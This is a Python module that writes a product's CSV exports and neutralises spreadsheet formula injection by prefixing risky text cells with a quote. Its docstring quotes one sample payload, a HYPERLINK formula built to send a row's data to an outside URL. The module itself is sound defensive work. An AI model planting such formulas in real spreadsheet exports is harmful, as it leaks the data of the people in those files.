"""CSV files safe to open in a spreadsheet (OWASP "CSV injection"): the one writer of the product's CSV.

Every CSV file the product writes for people goes through ``csv_bytes``: the
Risk Segments export, the queue export of the Interventions tab, and the
report zip (``dashboard.services.reports.csv``) that the Analytics tab, ``GET
/api/admin/customer-success/reports``, ``csd report`` and the scheduled
report mails deliver. (The importer reads CSV and is not concerned.)

Decisions:

- A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return is one that Excel, LibreOffice or Google Sheets may run as a
  formula: a client named ``=HYPERLINK("https://…?d="&B3,"Open")`` would
  become a live link that sends the row away. Such a cell is written with a
  single quote ``'`` in front (OWASP's rule), so that spreadsheets take it as
  text. The quote is part of the cell's text, as spreadsheets expect: a
  person sees ``'=HYPERLINK(…)`` and a program reading the file gets the quote
  too; nothing of the value is removed. Other cells, and a formula character
  later in a cell (``Ash = Rowan``), are written as they are.
- Numbers stay numbers: only text cells (Python ``str``) are changed, so
  ``-5`` or ``-0.25`` in a numeric column (or in a column of numbers held as
  objects, as ``kpis.csv``'s values are) are written bare and still add up.
  Text that looks like a number (``"-1"`` typed as a title) is text and gets
  the quote.
- The rest is pandas' CSV as before: UTF-8, a header row, no index, ``\\n``
  line ends, cells with commas, quotes or line breaks in double quotes.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

# The first characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Put in front of such a cell: spreadsheets then take it as text.
TEXT_MARKER = "'"


def safe_cell(value: Any) -> Any:
    """``value`` with ``'`` in front when it is text beginning with a formula character; else as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return TEXT_MARKER + value
    return value


def _may_hold_text(column: pd.Series) -> bool:
    dtype = column.dtype
    return pd.api.types.is_object_dtype(dtype) or isinstance(
        dtype, pd.StringDtype | pd.CategoricalDtype
    )


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell made safe (``safe_cell``); numeric, boolean and time columns untouched."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if _may_hold_text(column):
            # Cell by cell into an object column: ``Series.map`` would turn a column
            # of numbers held as objects into floats (``4`` written as ``4.0``).
            cells = [safe_cell(value) for value in column]
            out[name] = pd.Series(cells, index=column.index, dtype=object)
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV bytes with a header row and no index, every text cell safe."""
    return safe_frame(frame).to_csv(index=False, lineterminator="\n").encode("utf-8")
